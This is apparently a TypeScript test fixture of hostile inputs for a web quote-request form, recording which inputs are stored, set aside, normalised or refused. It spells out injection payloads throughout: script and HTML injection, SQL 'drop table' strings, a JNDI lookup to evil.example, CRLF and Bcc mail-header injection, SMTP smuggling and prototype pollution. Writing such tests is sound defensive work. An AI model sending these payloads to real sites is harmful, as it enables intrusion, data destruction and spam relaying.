@@ -1,0 +1,133 @@
+import { quote } from "./builders";
+import {
+  accepted,
+  acceptedAs,
+  cases,
+  type HostileCase,
+  invalid,
+  keptAside,
+} from "./HostileRequest";
+
+// What visitors write: our code reads it, in the same way on every host.
+
+type Verdict = "as typed" | "aside" | "refused" | { stored: string };
+
+/** Accepted text is stored as typed, but for characters that nobody sees, and escaped when shown. */
+const payloads: [name: string, text: string, verdict: Verdict][] = [
+  ["an element that closes ours", "</td></tr></table><h1>Pay now</h1>", "as typed"],
+  ["an attribute that ends ours", 'x" onmouseover="alert(1)', "as typed"],
+  ["a style sheet", "<style>body{display:none}</style>", "as typed"],
+  ["entities", "&lt;b&gt; &amp; &#60;", "as typed"],
+  ["a script", "<script>alert(1)</script>", "as typed"],
+  ["SQL", "x'); drop table quote_requests; --", "as typed"],
+  ["a link", '<a href="https://evil.example">click</a>', "aside"],
+  ["a filter of PostgREST", "eq.1,or=(id.gt.0)", "as typed"],
+  ["a formula", '=HYPERLINK("x","y")', "as typed"],
+  ["an LDAP look-up", "${jndi:ldap://evil.example/x}", "as typed"],
+  ["an encoded word", "=?utf-8?B?QmNjOiB4QGV4YW1wbGUuY29t?=", "as typed"],
+  ["an encoded line break", "Jane%0d%0aBcc: victim@example.com", "as typed"],
+  ["more addresses", "Jane <victim@example.com>, other@example.com", "as typed"],
+  ["quotes and a backslash", '"Jane\\" <x@example.com>', "as typed"],
+  ["a line break", "Jane\r\nBcc: victim@example.com", { stored: "Jane Bcc: victim@example.com" }],
+  ["a carriage return", "Jane\rX-Evil: 1", { stored: "Jane X-Evil: 1" }],
+  ["a line separator", "Jane\u2028Bcc: x@example.com", { stored: "Jane Bcc: x@example.com" }],
+  ["NUL", "Jane\0Doe", { stored: "JaneDoe" }],
+  ["terminal codes", "\u001b[31mJane\u001b[2J", { stored: "[31mJane[2J" }],
+  ["text turned around", "Jane\u202Egpj.exe", { stored: "Janegpj.exe" }],
+  ["a tag letter", "Jane\u{E0041}Doe", { stored: "JaneDoe" }],
+  ["half a letter", "Jane\ud800Doe", "refused"],
+  ["30,000 blanks", `a${" ".repeat(30_000)}b`, "refused"],
+  ["14,000 combining marks", `a${"\u0301".repeat(14_000)}`, "refused"],
+  ["invisible characters alone", "\u200b\u200d\ufeff", "refused"],
+  ["decomposed letters", "Jose\u0301", { stored: "José" }],
+  ["Arabic", "محمد الأحمد", "as typed"],
+  ["letters joined by invisible signs", "می‌خواهم ක්‍රිෂාන්", "as typed"],
+  ["rare letters and emoji", "𐐖𐐲𐑊 👩‍👩‍👧‍👦", "as typed"],
+  ["Null", "Null", "as typed"],
+];
+
+const columns = { firstName: "first_name", lastName: "last_name", address: "address" } as const;
+
+// The three fields have the same rule, so they take turns.
+const lines = payloads.flatMap(([name, text, verdict], index): HostileCase[] => {
+  const field = (["firstName", "lastName", "address"] as const)[index % 3] ?? "address";
+  const stored = { [columns[field]]: typeof verdict === "object" ? verdict.stored : text };
+  const expected =
+    verdict === "refused"
+      ? invalid(field)
+      : { ...(verdict === "aside" ? keptAside : accepted), stored };
+  return cases(expected, { [`${field}: ${name}`]: quote({ [field]: text }) });
+});
+
+/** Details may have several lines, so a line break is no attack: each kind is stored as a line feed. */
+const paragraphs = Object.entries({
+  "header lines": "Hi\r\nBcc: victim@example.com\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
+  "the end of SMTP data":
+    "one\r\n.\r\nMAIL FROM:<x@example.com>\r\nRCPT TO:<victim@example.com>\r\nDATA",
+  "a lonely dot at each line break there is": "a\n.\nb\r.\rc\r\n.\r\nd",
+  "a boundary": "----_NmP-0000\r\nContent-Type: text/html\r\n\r\n<h1>x</h1>",
+  elements: "</td></table><h1>x</h1><style>*{}</style><input autofocus onfocus=x>",
+  "a line of 5,000 letters": "x".repeat(5000),
+  "5,000 Chinese letters": "家".repeat(5000),
+  "JSON that looks like a log line": '{"event":"request.received"}\n{"event":"forged"}',
+  "From at the start of a line": "From me\nFrom you",
+  "two links from an honest person": "Plans: https://a.example and https://b.example",
+}).flatMap(([name, details]) =>
+  cases(acceptedAs({ details: details.replaceAll(/\r\n?/g, "\n") }), {
+    [`details: ${name}`]: quote({ details }),
+  }),
+);
+
+/** Where one looks for a way into the mail's headers. Beside shared/isEmailAddress.ts is every wrong address. */
+const wrongEmails = [
+  "jane@example.com\r\nBcc: victim@example.com",
+  "jane@example.com%0aBcc:victim@example.com",
+  "jane@example.com, victim@example.com",
+  "Jane <jane@example.com>",
+  "jane@example.com?bcc=victim@example.com",
+  '"ja\r\nne"@example.com',
+  "@".repeat(30_000),
+].flatMap((email) =>
+  cases(invalid("email"), { [`email refused: ${email.slice(0, 50)}`]: quote({ email }) }),
+);
+
+const emails = Object.entries({
+  '"jane\\"quoted\\""@example.com': '"jane\\"quoted\\""@example.com',
+  '"<b>jane</b>"@example.com': '"<b>jane</b>"@example.com',
+  "!#$%&'*+-/=?^_`{|}~@example.com": "!#$%&'*+-/=?^_`{|}~@example.com",
+  "jane?subject=x&bcc=y@example.com": "jane?subject=x&bcc=y@example.com",
+  "用户@例子.广告": "用户@xn--fsqu00a.xn--4rr70v",
+  "ja\u200dne@example\ufe0f.com": "jane@example.com",
+}).flatMap(([email, stored]) =>
+  cases(acceptedAs({ email: stored }), { [`email accepted: ${email}`]: quote({ email }) }),
+);
+
+/** Words around a number are no mistake; they are stored in one line and escaped when shown. */
+const phones = [
+  "404-555-0134\r\nBcc: victim@example.com",
+  "404-555-0134<b>",
+  "4045550134'; drop table rows; --",
+  "\u0660\u0665\u0660 \u0661\u0662\u0663 \u0664\u0665\u0666\u0667",
+].flatMap((phone) =>
+  cases(acceptedAs({ phone: phone.replace("\r\n", " ") }), {
+    [`phone: ${phone}`]: quote({ phone }),
+  }),
+);
+
+export const content: HostileCase[] = [
+  ...[...lines, ...paragraphs, ...wrongEmails, ...emails, ...phones],
+  ...cases(invalid("phone"), { "30,000 digits as phone": quote({ phone: "4".repeat(30_000) }) }),
+  ...cases(invalid("details"), { "details: NUL": quote({ details: "a\0b" }) }),
+  ...cases(invalid("serviceType"), { "a service __proto__": quote({ serviceType: "__proto__" }) }),
+  ...cases(acceptedAs({ details: "a\nb\nc[31mred" }), {
+    "details: separators and terminal codes": quote({
+      details: "a\u2028b\u2029c\u001b[31mred\u0007",
+    }),
+  }),
+  ...cases(keptAside, {
+    "details: links and markup": quote({
+      details: "https://a.example www.d.example <a href=https://b.example>x</a>",
+    }),
+    "a link in a name": quote({ firstName: "https://evil.example" }),
+  }),
+];
